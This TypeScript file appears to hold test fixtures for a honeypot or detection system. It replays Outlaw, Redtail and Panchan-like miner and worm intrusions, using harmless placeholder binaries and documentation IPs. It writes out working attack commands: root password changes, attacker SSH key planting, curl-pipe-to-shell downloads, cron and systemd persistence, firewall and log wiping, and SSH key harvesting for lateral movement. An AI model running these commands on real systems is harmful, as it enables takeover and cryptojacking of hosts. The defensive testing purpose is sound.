import { gzipSync } from 'node:zlib'
import { eicar, type Sequence, tinyElf } from './sequence.ts'

const host = '198.51.100.99'
const key = 'ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1testdata mdrfckr'
const miner = tinyElf('x86-64', 3)

/** A member of a tar archive (POSIX ustar). */
const tarMember = (name: string, data: Buffer, mode = 0o755): Buffer => {
  const head = Buffer.alloc(512)
  head.write(name)
  head.write(`${mode.toString(8).padStart(7, '0')}\0`, 100)
  head.write('0000000\x000000000\0', 108)
  head.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124)
  head.write('14000000000\0', 136)
  head.write('        ', 148)
  head.write(name.endsWith('/') ? '5' : '0', 156)
  head.write('ustar\x0000', 257)
  const sum = head.reduce((total, byte) => total + byte, 0)
  head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return Buffer.concat([head, data, Buffer.alloc((512 - (data.length % 512)) % 512)])
}
const dota = gzipSync(
  Buffer.concat([
    tarMember('.rsync/', Buffer.alloc(0)),
    tarMember('.rsync/initall', Buffer.from('#!/bin/bash\ncd ~/.configrc 2>/dev/null\necho started\nexit 0\n')),
    tarMember('.rsync/kswapd0', miner),
    Buffer.alloc(1024),
  ]),
)

/** Takes everybody else's jobs out of the crontabs. */
const clean = [
  '#!/bin/bash',
  'clean_crontab() {',
  '  chattr -ia "$1"',
  '  grep -vE "wget|curl|/dev/tcp|/tmp|\\.sh|nc|bash -i|sh -i|base64 -d" "$1" > /tmp/clean_crontab',
  '  mv /tmp/clean_crontab "$1"',
  '}',
  'systemctl disable c3pool_miner',
  'systemctl stop c3pool_miner',
  'chattr -ia /var/spool/cron/crontabs',
  'for user_cron in /var/spool/cron/crontabs/*; do',
  '  [ -f "$user_cron" ] && clean_crontab "$user_cron"',
  'done',
  'for f in /etc/crontab; do clean_crontab "$f"; done',
  'echo cleaned',
]
/** Finds a folder where it may write and run, and puts the right one of its binaries there. */
const setup = [
  '#!/bin/bash',
  'NOARCH=false',
  'ARCH=$(uname -mp)',
  'if echo "$ARCH" | grep -q "x86_64"; then',
  '  ARCH=x86_64',
  'elif echo "$ARCH" | grep -q aarch64; then',
  '  ARCH=aarch64',
  'else',
  '  NOARCH=true',
  'fi',
  "NOEXEC_DIRS=$(cat /proc/mounts | grep noexec | awk '{print $2}')",
  'EXCLUDE=""',
  'for dir in $NOEXEC_DIRS; do',
  '  EXCLUDE="$EXCLUDE -not -path \\"$dir\\" -not -path \\"$dir/*\\""',
  'done',
  'FOLDERS=$(eval find / -maxdepth 3 -type d -user $(whoami) -perm -u=rwx -not -path \\"/tmp/*\\" -not -path \\"/proc/*\\" $EXCLUDE 2>/dev/null)',
  'CURR=$PWD',
  'FILENAME=".redtail"',
  'for i in $FOLDERS /tmp /var/tmp /dev/shm; do',
  '  if cd "$i" && touch .testfile && (dd if=/dev/zero of=.testfile2 bs=2M count=1 >/dev/null 2>&1 || truncate -s 2M .testfile2 >/dev/null 2>&1); then',
  '    rm -rf .testfile .testfile2',
  '    break',
  '  fi',
  'done',
  'rm -rf .redtail',
  'cat "$CURR/redtail.$ARCH" >$FILENAME',
  'chmod +x $FILENAME',
  './$FILENAME ssh',
  'echo placed $ARCH in $PWD',
]

export const miners: Sequence[] = [
  {
    name: 'Outlaw: what it asks first, and the key it leaves',
    how: 'exec',
    lines: [
      'cat /proc/cpuinfo | grep name | wc -l',
      'echo "root:Wu8J5cFvH2tT"|chpasswd|bash',
      'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
      "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
      "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
      'ls -lh $(which ls)',
      'which ls',
      'crontab -l',
      'w',
      'uname -m',
      'cat /proc/cpuinfo | grep model | grep name | wc -l',
      'top -b -n 1 | head -3',
      'uname',
      'uname -a',
      'whoami',
      'lscpu | grep Model',
      "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
      'cd ~; chattr -ia .ssh; lockr -ia .ssh',
      `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
      'cat ~/.ssh/authorized_keys; ls -la ~/.ssh',
    ],
    samples: [`${key}\n`],
    accounts: [
      { user: 'root', change: 'password', password: 'Wu8J5cFvH2tT' },
      { user: 'root', change: 'key' },
    ],
    output: [/mdrfckr/, /^x86_64$/m, /^root$/m, /^\/usr\/bin\/ls$/m, /-rw------- 1 root root/, /Model name:/],
    errors: [/lockr: command not found/, /no crontab for root/],
  },
  {
    name: 'Outlaw: dota3.tar.gz, unpacked and started',
    how: 'exec',
    lines: [
      'cat /var/tmp/.systemcache436621; echo 1 > /var/tmp/.systemcache436621; cat /var/tmp/.systemcache436621',
      `echo ${dota.toString('base64')} | base64 -d > /var/tmp/dota3.tar.gz`,
      'sleep 0 && cd /tmp; rm -rf .X17-unix; mkdir .X17-unix; cd .X17-unix; tar xf /var/tmp/dota3.tar.gz; cd .rsync; ls -la; cat /tmp/.X17-unix/.rsync/initall | bash 2>1&',
      'cd /tmp/.X17-unix/.rsync && nohup ./kswapd0 > /dev/null 2>&1 & sleep 0; exit 0',
      '(crontab -l 2>/dev/null; echo "5 6 */2 * 0 /root/.configrc/a/upd>/dev/null 2>&1"; echo "@reboot /root/.configrc/a/upd>/dev/null 2>&1") | crontab -; crontab -l',
    ],
    samples: [dota, miner],
    runs: ['/tmp/.X17-unix/.rsync/kswapd0'],
    output: [/^1$/m, /initall\n/, /@reboot \/root\/\.configrc/],
    errors: [/cat: \/var\/tmp\/\.systemcache436621: No such file or directory/],
  },
  {
    name: 'A miner by curl or wget, straight into a shell',
    how: 'exec',
    lines: [
      'nproc; lscpu | grep -E "^(Model name|CPU\\(s\\))"; free -m | head -2; cat /proc/cpuinfo | grep "model name" | uniq',
      `(curl -fsSL http://${host}/init.sh || wget -q -O - http://${host}/init.sh) | sh`,
      `curl -k -s -L --connect-timeout 10 -m 60 -A "Mozilla/5.0" https://pool.miner.example/xmrig.tar.gz -o /tmp/x.tar.gz`,
      `wget --no-check-certificate -t 1 -T 10 -U "curl/7.1" -nc -q https://${host}/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o pool.miner.example:3333 -u wallet -p x -k --donate-level 1 -B`,
      `(crontab -l 2>/dev/null | grep -v "${host}"; echo "*/5 * * * * curl -fsSL http://${host}/init.sh | sh > /dev/null 2>&1") | crontab -`,
      'crontab -l | grep -c init.sh',
    ],
    urls: [`http://${host}/init.sh`, 'https://pool.miner.example/xmrig.tar.gz', `https://${host}/xmrig`],
    runs: ['/tmp/.x'],
    output: [/^\d+\n/, /^1$/m],
  },
  {
    name: 'A miner makes room: kills its rivals, tunes the kernel, installs itself',
    how: 'exec',
    lines: [
      "ps aux | grep -v grep | grep -E 'xmrig|kinsing|kdevtmpfsi|minerd' | awk '{print $2}' | xargs -I % kill -9 %",
      'pkill -f xmrig; pkill -9 -f kinsing; killall -9 minerd; killall kdevtmpfsi',
      "netstat -anp 2>/dev/null | grep ':3333' | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %",
      "ps -eo pid,%cpu,command | awk '$2 > 80.0 {print $1}' | while read p; do kill -9 $p; done",
      'ulimit -n 65535; ufw disable; iptables -F; setenforce 0 2>/dev/null',
      "echo '0' > /proc/sys/kernel/nmi_watchdog; sysctl -w vm.nr_hugepages=128; echo 'vm.nr_hugepages=128' >> /etc/sysctl.conf",
      'chattr -iua /tmp/ /var/tmp/; chattr -R -i /var/spool/cron',
      'rm -rf /var/log/syslog /tmp/addres* /tmp/walle* /tmp/keys',
      'find /tmp -name ".xm*" -delete; find / -maxdepth 2 -name "*kinsing*" 2>/dev/null',
      `printf '%s' '${eicar}' > /usr/local/bin/sysupd; chmod 755 /usr/local/bin/sysupd`,
      'cat > /etc/systemd/system/sysupd.service <<EOF\n[Unit]\nDescription=System Update\n[Service]\nExecStart=/usr/local/bin/sysupd\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload; systemctl enable sysupd.service; systemctl start sysupd',
      'unset HISTFILE; history -c; rm -f ~/.bash_history; touch ~/.bash_history',
    ],
    samples: [eicar],
    output: [/vm\.nr_hugepages = 128/],
    errors: [/(minerd|kdevtmpfsi): no process found/, /ufw: command not found/, /Created symlink .*sysupd\.service/],
  },
  {
    name: 'Redtail: uploaded scripts that clean up, choose a binary, leave a key',
    how: 'exec',
    lines: [
      `cat > clean.sh <<'SH'\n${clean.join('\n')}\nSH\nchmod +x clean.sh; bash clean.sh; rm -rf clean.sh`,
      `cat > setup.sh <<'SH'\n${setup.join('\n')}\nSH`,
      `echo ${miner.toString('base64')} | base64 --decode > redtail.x86_64; chmod +x setup.sh; bash setup.sh; rm -rf setup.sh redtail.*`,
      `mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "${key.replace('mdrfckr', 'rsa-key-20230629')}" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a`,
      'lsattr ~/.ssh/authorized_keys; rm -f ~/.ssh/authorized_keys; echo x >> ~/.ssh/authorized_keys; tail -1 ~/.ssh/authorized_keys | cut -c1-3',
    ],
    samples: [miner],
    accounts: [{ user: 'root', change: 'key' }],
    output: [/cleaned/, /placed x86_64/, /----ia------+e?-* \/root\/\.ssh\/authorized_keys/],
    errors: [
      /Failed to (disable|stop).*c3pool_miner|Unit (file )?c3pool_miner\.service/,
      /chattr: No such file or directory while trying to stat/,
      /(rm: cannot remove|authorized_keys: Operation not permitted)/,
    ],
  },
  {
    name: 'A worm like Panchan: a service under a name of the system',
    how: 'exec',
    lines: [
      'nproc --all; cat /proc/meminfo | head -1; hostname; cat /etc/os-release | head -1; ls /home; cat /etc/passwd | cut -d: -f1 | tail -1',
      `mkdir -p /bin/systemd-worker.d; printf '%s' '${eicar}' > /bin/systemd-worker; chmod u+x /bin/systemd-worker; stat -c %a /bin/systemd-worker`,
      "printf '[Unit]\\nDescription=systemd-worker\\nAfter=network.target\\n[Service]\\nType=forking\\nExecStart=/bin/systemd-worker\\n[Install]\\nWantedBy=multi-user.target\\n' > /lib/systemd/system/systemd-worker.service; systemctl enable systemd-worker; systemctl is-enabled systemd-worker",
      'find /home /root -maxdepth 3 -name "id_rsa*" 2>/dev/null; cat ~/.ssh/known_hosts 2>/dev/null; cat ~/.ssh/config ~/.bash_history 2>/dev/null | grep -E "^ssh " | head',
      'for h in 198.51.100.7; do timeout 1 ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=1 -i ~/.ssh/id_rsa root@$h uname; done; true',
    ],
    samples: [eicar],
    connections: [{ host: '198.51.100.7', port: 22 }],
    output: [/^744$/m, /enabled/, /MemTotal:/],
    errors: [
      /Created symlink/,
      /Identity file .* not accessible/,
      /^ssh: connect|Permission denied|Permanently added|Host key verification|^Connection (closed|reset)|kex_exchange/,
    ],
  },
]
